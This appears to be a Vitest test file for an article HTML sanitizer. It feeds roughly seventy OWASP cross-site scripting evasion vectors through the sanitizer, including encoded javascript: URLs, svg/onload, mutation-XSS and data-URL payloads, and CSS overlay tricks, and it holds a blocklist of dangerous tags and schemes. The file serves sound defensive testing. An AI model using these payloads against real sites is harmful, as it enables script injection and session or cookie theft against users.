// The article sanitizer against the OWASP XSS Filter Evasion Cheat Sheet vectors (and a few
// mutation-XSS classics). Each output is parsed and inspected: nothing may be able to run script.
import { describe, expect, it } from 'vitest';
import { sanitizeArticleHtml } from './sanitize-html';
import { EMBED_FRAME_SANDBOX, EMBED_ORIGINS } from '@pauta/model';

const DANGEROUS_TAGS = new Set([
  'script',
  'style',
  'object',
  'embed',
  'applet',
  'base',
  'meta',
  'link',
  'form',
  'input',
  'textarea',
  'frame',
  'frameset',
  'template',
  'noscript',
  'xml',
  'import',
]);
const URL_ATTRS = [
  'href',
  'src',
  'action',
  'formaction',
  'xlink:href',
  'data',
  'background',
  'lowsrc',
  'dynsrc',
  'poster',
  'srcdoc',
];
const BAD_URL = /^\s*(javascript|vbscript|livescript|data:text\/html|data:image\/svg)/i;

/** Every reason the sanitized HTML could still execute script, empty when it is safe. */
function problems(html: string): string[] {
  const template = document.createElement('template');
  template.innerHTML = html;
  const found: string[] = [];
  const walk = (root: ParentNode) => {
    for (const el of root.querySelectorAll('*')) {
      const tag = el.tagName.toLowerCase();
      if (DANGEROUS_TAGS.has(tag)) found.push(`<${tag}>`);
      if (tag === 'iframe' && !EMBED_ORIGINS.some((o) => (el.getAttribute('src') ?? '').startsWith(`${o}/`)))
        found.push(`iframe ${el.getAttribute('src')}`);
      for (const attr of el.attributes) {
        const name = attr.name.toLowerCase();
        if (name.startsWith('on')) found.push(`${tag}[${name}]`);
        // Browsers ignore whitespace and control characters inside a URL scheme ('jav\tascript:').
        const compact = [...attr.value].filter((ch) => ch.charCodeAt(0) > 0x20).join('');
        if (URL_ATTRS.includes(name) && BAD_URL.test(compact)) found.push(`${tag}[${name}=${attr.value}]`);
        if (
          name === 'style' &&
          /expression\s*\(|javascript:|behavior\s*:|-moz-binding/i.test(attr.value.replace(/\/\*[\s\S]*?\*\//g, ''))
        )
          found.push(`${tag}[style]`);
        if (name === 'srcdoc') found.push(`${tag}[srcdoc]`);
      }
      if ((el as HTMLTemplateElement).content) walk((el as HTMLTemplateElement).content);
    }
  };
  walk(template.content);
  return found;
}

// OWASP XSS Filter Evasion Cheat Sheet (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html).
const VECTORS: [string, string][] = [
  ['basic script', '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>'],
  [
    'polyglot',
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  ],
  ['img javascript: src', '<IMG SRC="javascript:alert(\'XSS\');">'],
  ['no quotes, no semicolon', "<IMG SRC=javascript:alert('XSS')>"],
  ['case insensitive', "<IMG SRC=JaVaScRiPt:alert('XSS')>"],
  ['html entities', '<IMG SRC=javascript:alert(&quot;XSS&quot;)>'],
  ['grave accent', '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>'],
  ['malformed A tag', '<a onmouseover="alert(document.cookie)">xxs link</a>'],
  ['malformed IMG', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>'],
  ['fromCharCode', '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>'],
  ['default src onerror', '<IMG SRC=# onmouseover="alert(\'xxs\')">'],
  ['empty src onerror', '<IMG SRC= onmouseover="alert(\'xxs\')">'],
  ['onerror alert', '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'],
  [
    'onerror encoded',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  ],
  [
    'decimal entities',
    '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  ],
  [
    'decimal no semicolons',
    '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  ],
  [
    'hex entities',
    '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  ],
  ['embedded tab', '<IMG SRC="jav\tascript:alert(\'XSS\');">'],
  ['encoded tab', '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">'],
  ['encoded newline', '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">'],
  ['encoded carriage return', '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">'],
  ['null byte', '<IMG SRC=java\0script:alert("XSS")>'],
  ['spaces and meta chars', '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">'],
  ['non-alpha-non-digit', '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>'],
  ['body onload with junk', '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'],
  ['extraneous open brackets', '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'],
  ['no closing script tag', '<SCRIPT SRC=http://xss.example/xss.js?< B >'],
  ['protocol-resolution script', '<SCRIPT SRC=//xss.example/.j>'],
  ['half open HTML/JS', '<IMG SRC="`<javascript:alert>`(\'XSS\')"'],
  ['end title tag', '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'],
  ['input image', '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">'],
  ['body image', '<BODY BACKGROUND="javascript:alert(\'XSS\')">'],
  ['img dynsrc', '<IMG DYNSRC="javascript:alert(\'XSS\')">'],
  ['img lowsrc', '<IMG LOWSRC="javascript:alert(\'XSS\')">'],
  ['list-style-image', '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>'],
  ['vbscript in image', '<IMG SRC=\'vbscript:msgbox("XSS")\'>'],
  ['svg object tag', "<svg/onload=alert('XSS')>"],
  ['body onload', "<BODY ONLOAD=alert('XSS')>"],
  ['bgsound', '<BGSOUND SRC="javascript:alert(\'XSS\');">'],
  ['link stylesheet', '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">'],
  ['remote style sheet', "<STYLE>@import'http://xss.example/xss.css';</STYLE>"],
  ['meta refresh', '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">'],
  [
    'meta refresh data url',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  ],
  ['iframe javascript', '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>'],
  ['iframe event', '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>'],
  ['iframe foreign host', '<iframe src="https://evil.example/embed"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['frameset', '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>'],
  ['table background', '<TABLE BACKGROUND="javascript:alert(\'XSS\')">'],
  ['td background', '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">'],
  ['div background-image', '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">'],
  ['div expression', '<DIV STYLE="width: expression(alert(\'XSS\'));">'],
  ['img style expression', '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">'],
  ['base tag', '<BASE HREF="javascript:alert(\'XSS\');//">'],
  ['object tag', '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>'],
  [
    'embed svg',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  ],
  ['xml data island', '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>'],
  ['a href javascript entity-split', '<a href="jav&#x61;script:alert(1)">x</a>'],
  ['a href data html', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['svg animate xlink', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'],
  ['svg set attribute', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'],
  [
    'math mXSS',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['form formaction', '<form><button formaction="javascript:alert(1)">x</button></form>'],
  ['details ontoggle', '<details open ontoggle=alert(1)>'],
  ['video poster', '<video poster=javascript:alert(1)></video>'],
  ['template smuggling', '<template><script>alert(1)</script></template>'],
];

describe('sanitizeArticleHtml against OWASP filter-evasion vectors', () => {
  it('has a table of at least 30 vectors', () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(30);
  });

  it.each(VECTORS)('%s', (_name, vector) => {
    const output = sanitizeArticleHtml(vector);
    expect(problems(output)).toEqual([]);
    expect(output).not.toMatch(/<script/i);
    expect(output).not.toMatch(/\son\w+\s*=/i);
  });
});

describe('sanitizeArticleHtml keeps article content', () => {
  it('keeps headings, paragraphs, lists, images, code, tables and data-/aria- attributes', () => {
    const html =
      '<h2 class="x">T</h2><p>p <strong>b</strong> <em>i</em></p><ul><li>1</li></ul>' +
      '<img src="https://cdn.example/a.png" alt="A"><pre><code class="language-js">x</code></pre>' +
      '<table><tr><td>c</td></tr></table><div data-target="#p" aria-controls="p" role="tab">t</div>';
    const out = sanitizeArticleHtml(html);
    for (const piece of [
      '<h2 class="x">',
      '<strong>b</strong>',
      '<li>1</li>',
      'language-js',
      '<td>c</td>',
      'data-target="#conteudo-p"',
      'aria-controls="conteudo-p"',
      'role="tab"',
    ]) {
      expect(out).toContain(piece);
    }
    expect(out).toMatch(/<img[^>]+loading="lazy"/);
  });

  it("never lets a body name the page's own elements: ids prefixed, references too, the app's markers dropped", () => {
    const html =
      '<div id="root" data-island="account" data-island-when="session" data-pauta-form="newsletter-rodape">' +
      '<p id="pauta-state" name="conteudo" data-testid="article-body" data-ssr="x" data-src="/a.png">x</p>' +
      '<label for="campo">L</label><a href="#secao">ir</a><a href="#top">topo</a><h2 id="secao">S</h2></div>';
    const template = document.createElement('template');
    template.innerHTML = sanitizeArticleHtml(html);
    const root = template.content;
    expect(
      root.querySelector('#root, #pauta-state, [data-island], [data-pauta-form], [data-testid], [data-ssr]'),
    ).toBeNull();
    expect(root.querySelector('#conteudo-root')).not.toBeNull();
    expect(root.querySelector('#conteudo-pauta-state')?.getAttribute('data-src')).toBe('/a.png');
    expect(root.querySelector('label')?.getAttribute('for')).toBe('conteudo-campo');
    expect(root.querySelector('a[href="#conteudo-secao"]')).not.toBeNull();
    expect(root.querySelector('#conteudo-secao')).not.toBeNull();
    expect(root.querySelector('a[href="#top"]')).not.toBeNull(); // the page's top stays the top
  });

  it('keeps the seed markup for tabs and accordions', () => {
    const tabs =
      '<div class="tabs"><div class="tab-list" role="tablist"><button class="tab" role="tab" id="x-tab" aria-controls="x-content">X</button></div>' +
      '<div class="tab-content" id="x-content" role="tabpanel">X!</div></div>' +
      '<div class="accordion"><button class="accordion-header">Q</button><div class="accordion-content">A</div></div>';
    const template = document.createElement('template');
    template.innerHTML = sanitizeArticleHtml(tabs);
    // Ids and their references both carry the body's prefix (see the next test).
    expect(template.content.querySelector('#conteudo-x-tab')?.getAttribute('aria-controls')).toBe('conteudo-x-content');
    expect(template.content.querySelector('#conteudo-x-content')?.textContent).toBe('X!');
    expect(template.content.querySelector('.accordion-header')?.textContent).toBe('Q');
  });

  it('opens external links in a new tab without opener access', () => {
    const out = sanitizeArticleHtml(
      '<a href="https://example.org/x">ext</a><a href="/sobre">int</a><a href="/a" target="_top">t</a>',
    );
    const t = document.createElement('template');
    t.innerHTML = out;
    const [ext, int, top] = t.content.querySelectorAll('a');
    expect(ext.getAttribute('target')).toBe('_blank');
    expect(ext.getAttribute('rel')).toBe('noopener noreferrer');
    expect(int.hasAttribute('target')).toBe(false);
    expect(top.hasAttribute('target')).toBe(false);
  });

  it('allows video iframes only from the allow-list, sandboxed, on the players the page may frame', () => {
    const out = sanitizeArticleHtml(
      '<iframe src="https://www.youtube-nocookie.com/embed/abc"></iframe><iframe src="https://player.vimeo.com/video/1"></iframe>' +
        '<iframe src="https://www.youtube.com/embed/abc?start=5"></iframe><iframe src="https://youtube-nocookie.com/embed/d"></iframe>' +
        '<iframe src="http://www.youtube.com/embed/abc"></iframe><iframe src="https://youtube.com.evil.example/embed"></iframe>' +
        '<iframe src="https://www.youtube.com:8443/embed/abc"></iframe>',
    );
    const t = document.createElement('template');
    t.innerHTML = out;
    const frames = [...t.content.querySelectorAll('iframe')];
    // YouTube's own host becomes youtube-nocookie: the page's frame-src names the facades' players only.
    expect(frames.map((f) => f.getAttribute('src'))).toEqual([
      'https://www.youtube-nocookie.com/embed/abc',
      'https://player.vimeo.com/video/1',
      'https://www.youtube-nocookie.com/embed/abc?start=5',
      'https://www.youtube-nocookie.com/embed/d',
    ]);
    // A link followed from the player ('Assistir no YouTube') opens a normal tab, not a sandboxed one.
    for (const f of frames) expect(f.getAttribute('sandbox')).toBe(EMBED_FRAME_SANDBOX);
    expect(EMBED_FRAME_SANDBOX.split(' ')).toEqual(
      expect.arrayContaining(['allow-scripts', 'allow-popups-to-escape-sandbox']),
    );
  });

  it('drops fixed positioning that could cover the page', () => {
    expect(sanitizeArticleHtml('<div style="position: fixed; inset: 0">x</div>')).not.toContain('position');
    expect(sanitizeArticleHtml('<div style="color: red">x</div>')).toContain('color: red');
  });

  /** The style the browser computes for the body's first element (jsdom parses the kept declarations). */
  const computed = (html: string) => {
    const t = document.createElement('div');
    t.innerHTML = sanitizeArticleHtml(html);
    return (t.firstElementChild as HTMLElement | null)?.style;
  };

  // CSS escapes and comments cannot smuggle a declaration past the filter: it reads what the
  // browser would read, and writes back only plain declarations it keeps.
  it.each([
    ['an escaped letter in the value', 'position:fix\\65 d; top:0; left:0; width:100%; height:100%'],
    ['a six-digit escape', 'position:fix\\000065d'],
    ['an escaped property name', '\\70 osition: fixed'],
    ['escaped punctuation', 'position\\:fixed'],
    ['a comment inside the value', 'position:/* x */fixed'],
    ['sticky', 'position: sticky; top: 0'],
    ['a full-page absolute overlay', 'position:absolute;top:0;left:0;width:100vw;height:100vh;z-index:9999'],
    ['an overlay by inset', 'position:absolute; inset:0'],
    ['upper case and !important', 'POSITION: FIXED !important'],
  ])('keeps no positioning from %s', (_name, style) => {
    const out = sanitizeArticleHtml(`<div style="${style}">cobre a página</div>`);
    const el = computed(`<div style="${style}">x</div>`);
    expect(['', 'static', 'relative']).toContain(el?.position ?? '');
    expect(out).not.toMatch(/fixed|sticky|absolute|z-index|inset|\\/i);
    expect(out).toContain('cobre a página');
  });

  it.each([
    ['a negative margin pulling the body over the header', 'margin-top:-2000px', 'margin'],
    ['a negative margin in calc()', 'margin: calc(0px - 100vh) 0 0', 'margin'],
    ['a transform moving it elsewhere', 'transform: translateY(-100vh)', 'transform'],
    ['an outline painted over the page', 'outline: 100vmax solid red', 'outline'],
    ['a huge shadow', 'box-shadow: 0 0 0 100vmax #000', 'shadow'],
    ['a background image that calls home', 'background: url(https://rastreio.example/p.gif)', 'url'],
    ['an escaped url()', 'background: u\\72l(https://rastreio.example/p.gif)', 'rastreio'],
    ['an IE expression', 'width: expression(alert(1))', 'expression'],
  ])('drops %s', (_name, style, word) => {
    expect(sanitizeArticleHtml(`<p style="${style}">x</p>`)).not.toContain(word);
  });

  it('keeps the harmless declarations of a style and writes them plainly', () => {
    const out = sanitizeArticleHtml(
      '<p style="text-align: center; position: fixed; color: #c00; margin: 0 auto 1em; font-weight: bold">x</p>',
    );
    expect(out).toBe('<p style="text-align: center; color: #c00; margin: 0 auto 1em; font-weight: bold">x</p>');
    expect(sanitizeArticleHtml('<p style="position: relative">x</p>')).toContain('position: relative');
  });

  it('limits an embed’s allow= to what a player needs, for the player’s own origin', () => {
    const out = sanitizeArticleHtml(
      '<iframe src="https://www.youtube-nocookie.com/embed/abc" allow="accelerometer; autoplay; camera *; ' +
        'clipboard-write; encrypted-media; geolocation https://evil.example; fullscreen *; picture-in-picture; microphone"></iframe>' +
        '<iframe src="https://player.vimeo.com/video/1" allow="camera; microphone"></iframe>',
    );
    const t = document.createElement('template');
    t.innerHTML = out;
    const [youtube, vimeo] = [...t.content.querySelectorAll('iframe')];
    expect(youtube!.getAttribute('allow')).toBe('autoplay; encrypted-media; fullscreen; picture-in-picture');
    expect(vimeo!.hasAttribute('allow')).toBe(false);
  });

  it('returns empty text for empty input', () => {
    expect(sanitizeArticleHtml('')).toBe('');
  });
});
